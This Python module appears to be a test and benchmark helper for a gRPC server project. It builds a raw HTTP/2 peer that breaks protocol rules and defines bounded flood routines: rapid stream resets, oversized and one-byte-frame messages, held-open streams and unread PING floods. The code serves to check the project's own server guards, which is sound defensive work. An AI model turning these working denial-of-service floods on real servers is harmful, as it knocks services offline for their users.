"""A hostile HTTP/2 peer: raw frames over a real socket, as an attacker with nothing but
an HTTP/2 library would send them, and the floods of issue 12 built from it.

The soak (``python -m bench.soak``) runs the floods against a server process while a
normal client keeps calling; the wire tests (``tests/piinguin/server/test_guard*.py``) use
the same peer for one bad request at a time. Every flood is bounded in count and in time.
"""

from __future__ import annotations

import asyncio
import contextlib
import struct
import time
from collections.abc import Callable, Sequence
from typing import Any

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings
import hpack
from grpclib.const import Status
from h2.errors import ErrorCodes

HEALTH_CHECK = "/grpc.health.v1.Health/Check"
REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
Headers = Sequence[tuple[str | bytes, str | bytes]]


def grpc_headers(path: str = HEALTH_CHECK) -> list[tuple[str | bytes, str | bytes]]:
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "vault"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]


def message(payload: bytes = b"", *, flag: int = 0, length: int | None = None) -> bytes:
    """A gRPC message: flag byte, 4-byte big-endian length (the payload's unless given)."""
    return struct.pack(">BI", flag, len(payload) if length is None else length) + payload


class Peer:
    """One connection. Its own h2 validates nothing it sends, so it can break every rule;
    a background task reads and records what the server answers."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader = reader
        self.writer = writer
        self.h2 = h2.connection.H2Connection(
            h2.config.H2Configuration(
                client_side=True,
                header_encoding=None,
                validate_outbound_headers=False,
                normalize_outbound_headers=False,
                validate_inbound_headers=False,
            )
        )
        self.h2.encoder = _PlainEncoder()
        self.events: list[Any] = []
        self.closed = False
        self._changed = asyncio.Event()
        self._next_stream = 1
        self._reading: asyncio.Task[None] | None = None

    @classmethod
    async def connect(cls, port: int, *, host: str = "127.0.0.1", read: bool = True) -> Peer:
        """Connected, preface sent; with ``read``, also past the server's SETTINGS."""
        reader, writer = await asyncio.open_connection(host, port)
        peer = cls(reader, writer)
        peer.h2.initiate_connection()
        # far larger windows than the server's answers need: only its limits hold it back
        peer.h2.increment_flow_control_window(2**30)
        await peer.flush()
        if read:
            peer._reading = asyncio.create_task(peer._read())
            await peer.wait(
                lambda: any(isinstance(e, h2.events.RemoteSettingsChanged) for e in peer.events)
            )
        return peer

    async def close(self) -> None:
        if self._reading is not None:
            self._reading.cancel()
            with contextlib.suppress(asyncio.CancelledError):
                await self._reading
        self.writer.close()
        with contextlib.suppress(OSError):
            await self.writer.wait_closed()

    async def __aenter__(self) -> Peer:
        return self

    async def __aexit__(self, *exc: object) -> None:
        await self.close()

    # -- sending -----------------------------------------------------------------------

    def new_stream(self) -> int:
        stream_id = self._next_stream
        self._next_stream += 2
        return stream_id

    def headers(
        self, headers: Headers | None = None, *, stream_id: int | None = None, end: bool = False
    ) -> int:
        stream_id = self.new_stream() if stream_id is None else stream_id
        self.h2.send_headers(stream_id, list(headers or grpc_headers()), end_stream=end)
        return stream_id

    def data(self, stream_id: int, data: bytes, *, end: bool = False) -> None:
        """``data`` in as many DATA frames as the frame size needs (one, if empty)."""
        size = self.h2.max_outbound_frame_size
        chunks = [data[i : i + size] for i in range(0, len(data), size)] or [b""]
        for chunk in chunks[:-1]:
            self.h2.send_data(stream_id, chunk)
        self.h2.send_data(stream_id, chunks[-1], end_stream=end)

    def request(
        self, path: str = HEALTH_CHECK, body: bytes | None = None, *, end: bool = True
    ) -> int:
        """Headers and, unless ``body`` is None, the bytes given (already framed)."""
        stream_id = self.headers(grpc_headers(path), end=end and body is None)
        if body is not None:
            self.data(stream_id, body, end=end)
        return stream_id

    def ignore_stream_limit(self) -> None:
        """Behave as if the server had announced no limit on concurrent streams."""
        self.h2.remote_settings = h2.settings.Settings(
            client=True,
            initial_values={h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS: 2**31 - 1},
        )

    async def flush(self) -> None:
        pending = self.h2.data_to_send()
        if pending:
            self.writer.write(pending)
        await self.writer.drain()

    # -- what the server answered ------------------------------------------------------

    async def _read(self) -> None:
        try:
            while data := await self.reader.read(256 * 1024):
                try:
                    self.events.extend(self.h2.receive_data(data))
                except h2.exceptions.ProtocolError:
                    break
                if pending := self.h2.data_to_send():
                    self.writer.write(pending)
                self._changed.set()
        except OSError:
            pass  # reset by the server: what came before it is in ``events``
        finally:
            self.closed = True
            self._changed.set()

    async def wait(self, done: Callable[[], object], seconds: float = 10) -> None:
        async with asyncio.timeout(seconds):
            while not done():
                if self.closed:
                    if done():
                        return
                    raise ConnectionError("the server closed the connection")
                self._changed.clear()
                await self._changed.wait()

    @property
    def goaway(self) -> h2.events.ConnectionTerminated | None:
        return next((e for e in self.events if isinstance(e, h2.events.ConnectionTerminated)), None)

    def outcome(self, stream_id: int) -> str | None:
        """``"OK"``, a gRPC status name, ``"reset REFUSED_STREAM"`` (RST_STREAM with no
        status first), ``"goaway CODE"``; None while the stream is unanswered."""
        for event in self.events:
            if getattr(event, "stream_id", None) != stream_id:
                continue
            if isinstance(event, h2.events.StreamReset):
                return f"reset {_code_name(event.error_code)}"
            if isinstance(event, h2.events.ResponseReceived | h2.events.TrailersReceived):
                status = dict(event.headers).get(b"grpc-status")
                if status is not None:
                    return Status(int(status)).name
        if self.goaway is not None:
            return f"goaway {_code_name(self.goaway.error_code or 0)}"
        if self.closed:
            return "connection closed"
        return None

    async def answer(self, stream_id: int, seconds: float = 10) -> str:
        await self.wait(lambda: self.outcome(stream_id) is not None or self.closed, seconds)
        outcome = self.outcome(stream_id)
        assert outcome is not None
        return outcome

    def message_of(self, stream_id: int) -> str:
        """The grpc-message the server sent on a stream, decoded."""
        for event in self.events:
            if getattr(event, "stream_id", None) == stream_id and isinstance(
                event, h2.events.ResponseReceived | h2.events.TrailersReceived
            ):
                text = dict(event.headers).get(b"grpc-message")
                if text is not None:
                    return bytes(text).decode()
        return ""


class _PlainEncoder(hpack.Encoder):
    """HPACK without Huffman coding, whose pure-Python encoder takes minutes for a
    megabyte header."""

    def encode(self, headers: Any, huffman: bool = True) -> bytes:
        return super().encode(headers, huffman=False)


def _code_name(code: int) -> str:
    try:
        return ErrorCodes(code).name
    except ValueError:
        return str(code)


# -- floods: each bounded by ``count`` and ``seconds`` ----------------------------------


async def rapid_reset(peer: Peer, count: int, *, seconds: float = 10) -> int:
    """HEADERS then RST_STREAM on new streams, until ``count`` or the server's GOAWAY;
    returns how many were sent."""
    deadline = time.monotonic() + seconds
    sent = 0
    while sent < count and peer.goaway is None and not peer.closed:
        for _ in range(min(200, count - sent)):
            stream_id = peer.headers()
            peer.h2.reset_stream(stream_id, ErrorCodes.CANCEL)
            sent += 1
        try:
            await peer.flush()
        except OSError:
            break
        await asyncio.sleep(0)  # the reader's turn: it may have seen a GOAWAY
        if time.monotonic() > deadline:
            break
    return sent


async def oversized_message(
    peer: Peer, *, declared: int, send: int, path: str = HEALTH_CHECK, seconds: float = 10
) -> tuple[int, int]:
    """A prefix declaring ``declared`` bytes, then up to ``send`` bytes of it for as long as
    the server's flow control and the stream allow; returns (stream id, bytes sent)."""
    stream_id = peer.headers(grpc_headers(path))
    peer.data(stream_id, message(length=declared))
    await peer.flush()
    chunk = b"\0" * 16384
    sent = 0
    deadline = time.monotonic() + seconds
    while sent < send and time.monotonic() < deadline and peer.outcome(stream_id) is None:
        window = peer.h2.local_flow_control_window(stream_id)
        if window <= 0:
            peer._changed.clear()
            with contextlib.suppress(TimeoutError):
                async with asyncio.timeout(0.2):
                    await peer._changed.wait()
            continue
        size = min(window, len(chunk), send - sent)
        try:
            peer.data(stream_id, chunk[:size])
            await peer.flush()
        except (h2.exceptions.StreamClosedError, h2.exceptions.ProtocolError, OSError):
            break
        sent += size
    return stream_id, sent


async def tiny_frames(
    peer: Peer, count: int, *, path: str = HEALTH_CHECK, seconds: float = 10
) -> int:
    """A prefix declaring ``count`` bytes, then ``count`` one-byte DATA frames, written as
    raw frames (h2 would spend seconds building them); the stream stays open. Returns the
    stream id."""
    stream_id = peer.headers(grpc_headers(path))
    peer.data(stream_id, message(length=count))
    await peer.flush()
    frame = struct.pack(">I", 1)[1:] + b"\0\0" + stream_id.to_bytes(4, "big") + b"\0"
    deadline = time.monotonic() + seconds
    for start in range(0, count, 8192):
        peer.writer.write(frame * min(8192, count - start))
        await peer.writer.drain()
        if time.monotonic() > deadline or peer.outcome(stream_id) is not None:
            break
    return stream_id


async def held_streams(peer: Peer, count: int) -> list[int]:
    """Requests whose body never comes: headers only, no END_STREAM."""
    streams = [peer.headers() for _ in range(count)]
    await peer.flush()
    return streams


async def pings_unread(peer: Peer, count: int, *, seconds: float = 10) -> int:
    """PING frames from a peer that never reads the server's acknowledgements."""
    deadline = time.monotonic() + seconds
    sent = 0
    try:
        while sent < count and time.monotonic() < deadline:
            for _ in range(1000):
                peer.h2.ping(sent.to_bytes(8, "big"))
                sent += 1
            await asyncio.wait_for(peer.flush(), max(0.01, deadline - time.monotonic()))
    except (OSError, TimeoutError):
        pass
    return sent
